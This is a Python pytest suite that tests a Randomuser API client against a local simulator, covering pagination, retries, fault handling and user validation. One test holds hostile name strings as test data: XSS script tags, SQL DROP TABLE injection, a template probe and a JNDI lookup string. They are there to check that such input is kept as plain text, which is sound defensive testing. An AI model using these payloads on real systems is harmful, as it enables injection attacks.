"""The Randomuser client against randomuser_sim: real payloads, every injected fault."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import aiohttp
import pytest

from sync_worker.fetching import FetchFailed, FetchRequest
from sync_worker.pacing import RetryPolicy, UpstreamBudget
from sync_worker.randomuser import HttpRandomuserClient
from sync_worker.validation import validate_users

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from aiohttp.test_utils import TestServer

sim_app = pytest.importorskip("randomuser_sim.app")


class Sim:
    """A running simulator and a client of it with fast retries."""

    def __init__(self, server: TestServer, session: aiohttp.ClientSession) -> None:
        self.server = server
        self.session = session

    def client(
        self, *, timeout: float = 5.0, attempts: int = 3, budget: int = 1_000_000
    ) -> HttpRandomuserClient:
        return HttpRandomuserClient(
            self.session,
            str(self.server.make_url("/api/1.4/")),
            timeout=timeout,
            retry=RetryPolicy(
                max_attempts=attempts, backoff=0.0, rate_limit_backoff=0.0
            ),
            budget=UpstreamBudget(budget, 300),
        )

    async def fault(self, mode: str, count: int | None = None, **extra: Any) -> None:
        body = {"mode": mode, "count": count, **extra}
        async with self.session.post(
            self.server.make_url("/_sim/faults"), json=body
        ) as response:
            assert response.status < 300, await response.text()


@pytest.fixture
async def sim(aiohttp_server: Any) -> AsyncIterator[Sim]:
    server = await aiohttp_server(sim_app.create_app())
    async with aiohttp.ClientSession() as session:
        yield Sim(server, session)


async def fetch_failure(client: HttpRandomuserClient, results: int = 20) -> FetchFailed:
    with pytest.raises(FetchFailed) as caught:
        await client.fetch(FetchRequest(results=results, seed="faulty"))
    return caught.value


async def test_a_fetch_returns_the_users_asked_for_and_they_all_validate(sim):
    fetched = await sim.client().fetch(FetchRequest(results=500, seed="simple"))

    report = validate_users(fetched.users)
    assert len(fetched.users) == 500
    assert report.dropped_count == 0
    assert len({user.country for user in report.users}) == 21


async def test_the_same_seed_fetches_the_same_users(sim):
    client = sim.client()

    first = await client.fetch(FetchRequest(results=50, seed="again"))
    second = await client.fetch(FetchRequest(results=50, seed="again"))

    assert first.users == second.users


async def test_nationalities_reach_the_simulator(sim):
    fetched = await sim.client().fetch(
        FetchRequest(results=60, seed="nat", nationalities=("FR", "NO"))
    )

    assert {user["nat"] for user in fetched.users} == {"FR", "NO"}


async def test_a_sync_larger_than_5000_is_fetched_as_distinct_pages(sim):
    fetched = await sim.client().fetch(FetchRequest(results=12_000, seed="paged"))

    assert fetched.pages == 3
    assert len(fetched.users) == 12_000
    uuids = {user["login"]["uuid"] for user in fetched.users}
    assert len(uuids) == 12_000


@pytest.mark.parametrize(
    ("mode", "words", "attempts"),
    [
        ("http_500", "HTTP 500", 3),
        ("http_502_cloudflare", "HTTP 502", 3),
        ("http_503_cloudflare", "HTTP 503", 3),
        ("http_504_cloudflare", "HTTP 504", 3),
        ("http_520_cloudflare", "HTTP 520", 3),
        ("http_403_cloudflare_block", "blocked", 1),
        ("rate_limit", "rate-limited", 3),
        ("rate_limit_503", "rate-limited", 3),
        ("error_json", "reported an error", 3),
        ("truncated", "truncated", 3),
        ("empty_body", "empty body", 3),
        ("empty_results", "no users", 3),
        ("placeholder", "placeholder", 3),
        ("not_found", "not found", 1),
    ],
)
async def test_each_lasting_fault_ends_in_a_clear_failure_reason(
    sim, mode, words, attempts
):
    await sim.fault(mode)

    failure = await fetch_failure(sim.client())

    assert words in failure.reason, failure.reason
    assert failure.attempts == attempts


async def test_a_hanging_simulator_times_out(sim):
    await sim.fault("hang")

    failure = await fetch_failure(sim.client(timeout=0.3, attempts=2))

    assert "did not answer in time" in failure.reason
    assert failure.attempts == 2


async def test_a_slow_answer_within_the_timeout_is_a_success(sim):
    await sim.fault("slow", delay=0.2)

    fetched = await sim.client(timeout=5).fetch(FetchRequest(results=5, seed="slow"))

    assert len(fetched.users) == 5


@pytest.mark.parametrize(
    "mode", ["http_502_cloudflare", "rate_limit", "truncated", "placeholder", "hang"]
)
async def test_a_passing_fault_is_retried_into_a_success(sim, mode):
    await sim.fault(mode, count=1)

    fetched = await sim.client(timeout=0.5).fetch(FetchRequest(results=5, seed="retry"))

    assert len(fetched.users) == 5
    assert fetched.attempts == 2


async def test_hostile_names_arrive_as_text_and_are_kept_unescaped(sim):
    await sim.fault("hostile")

    fetched = await sim.client().fetch(FetchRequest(results=20, seed="hostile"))

    report = validate_users(fetched.users)
    names = [user.name for user in report.users]
    assert names[0] == "<img src=x onerror=alert(1)> <script>alert(1)</script>"
    assert names[1] == "\u0622\u0631\u0645\u06cc\u0646 \u0635\u062f\u0631"
    assert names[2] == "\"; DROP TABLE users;-- Robert'); DROP TABLE students;--"
    assert names[3] == "evil Smith"
    assert names[4] == "{{7*7}} ${jndi:ldap://example.com/a}"
    assert names[5] == "Zo\u00eb \U0001f469\u200d\U0001f4bb padded"
    assert report.dropped == {"too_long_name": 1}
    assert len(report.users) == 19


async def test_malformed_users_are_dropped_and_counted_by_reason(sim):
    await sim.fault("malformed_users")

    fetched = await sim.client().fetch(FetchRequest(results=200, seed="malformed"))

    report = validate_users(fetched.users)
    assert report.dropped == {
        "missing_email": 1,
        "invalid_gender": 2,
        "missing_name": 1,
        "missing_country": 1,
    }
    assert len(report.users) == 195


async def test_the_real_rate_limit_of_the_simulator_is_reported_as_rate_limited(sim):
    # Without the client-side budget, the sixth 5,000-user request crosses
    # the simulator's 20,000-users-per-window limit.
    failure = await fetch_failure(sim.client(attempts=2), results=30_000)

    assert failure.reason.startswith("rate-limited by Randomuser")
    assert "page 5 of 6" in failure.reason


async def test_the_client_side_budget_keeps_below_the_limit(sim):
    client = sim.client(budget=20_000)

    fetched = await client.fetch(FetchRequest(results=20_000, seed="budget"))

    assert len(fetched.users) == 20_000
    assert client.budget.used() == 20_000
